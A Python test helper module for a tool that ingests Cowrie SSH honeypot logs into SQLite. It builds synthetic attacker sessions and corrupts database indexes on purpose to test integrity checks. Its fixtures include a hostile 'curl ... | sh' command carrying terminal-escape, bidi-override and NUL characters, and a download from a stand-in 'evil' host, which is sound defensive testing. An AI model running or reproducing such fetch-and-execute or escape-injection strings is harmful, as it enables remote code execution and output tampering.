"""Databases made of logs that a test wrote."""

from __future__ import annotations

import contextlib
import json
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import apsw
from cases import CLOSED, CONNECT, at, event, lines

from sesscore import cli
from sesscore.ingest import ingest

HOSTILE = "curl x\x1b[2J\u202e\0|sh"


def did(session: str, seconds: float, eventid: str, **more: Any) -> dict[str, Any]:
    """An event of Cowrie's, named without its first word."""
    whole = int(seconds)
    return event(session, 0, f"cowrie.{eventid}", **more) | {"timestamp": at(whole, round((seconds - whole) * 1e6))}


def visit(session: str, seconds: int = 0, sensor: str = "alpha", **more: Any) -> list[dict[str, Any]]:
    """A whole session: connect, version, two logins, two commands, a download, close."""
    events = [
        did(session, seconds, "session.connect", src_ip="192.0.2.7", src_port=40000, dst_ip="10.0.0.1", dst_port=2222,
            protocol="ssh"),
        did(session, seconds + 0.5, "client.version", version="SSH-2.0-Go"),
        did(session, seconds + 0.6, "client.kex", hassh="ab" * 16),
        did(session, seconds + 1, "login.failed", username="root", password=""),
        did(session, seconds + 2, "login.success", username="root", password="123456"),
        did(session, seconds + 3, "command.input", input="uname -a"),
        did(session, seconds + 3, "command.failed", input=HOSTILE),
        did(session, seconds + 4, "session.file_download", url="http://evil/a", shasum="cd" * 32),
        did(session, seconds + 5, "session.closed", duration=5.25),
    ]  # fmt: skip
    return [{"sensor": sensor, **one, **more} for one in events]


def write(folder: Path, **logs: bytes | list[Any]) -> list[str]:
    """Logs in a folder; a list is written one value a line."""
    folder.mkdir(parents=True, exist_ok=True)
    for name, data in logs.items():
        (folder / f"{name}.json").write_bytes(data if isinstance(data, bytes) else lines(*data))
    return [str(folder / f"{name}.json") for name in logs]


def database(folder: Path, **logs: bytes | list[Any]) -> str:
    """A closed database of logs that are written beside it."""
    db = str(folder / "s.db")
    for path in write(folder / "logs", **logs):
        ingest([path], db=db)
    return db


@contextlib.contextmanager
def changing(db: str) -> Iterator[apsw.Connection]:
    """A connection that can do what no program of ours would."""
    connection = apsw.Connection(db)
    connection.execute("PRAGMA foreign_keys = OFF")
    try:
        yield connection
    finally:
        connection.close()


def damaged_index(db: str) -> None:
    """Two indexes change their trees: the file can be opened, and is not sound."""
    with changing(db) as connection:
        roots = "SELECT name, rootpage FROM sqlite_schema WHERE name IN ('source_path', 'source_inode') ORDER BY name"
        (inode, one), (path, other) = connection.execute(roots).fetchall()
        connection.execute("PRAGMA writable_schema = ON")
        connection.executemany("UPDATE sqlite_schema SET rootpage = ? WHERE name = ?", [(other, inode), (one, path)])


def outcome(capsys: Any, *arguments: str) -> tuple[int, str, str]:
    """Exit code, standard output and standard error of the program."""
    code = cli.main(arguments)
    out, err = capsys.readouterr()
    return code, out, err


def answer(capsys: Any, *arguments: str) -> Any:
    """The document that the program prints."""
    code, out, err = outcome(capsys, *arguments, "--format", "json")
    assert (code, err) == (0, "")
    return json.loads(out)


__all__ = ["CLOSED", "CONNECT", "HOSTILE", "answer", "changing", "database", "did", "outcome", "visit", "write"]
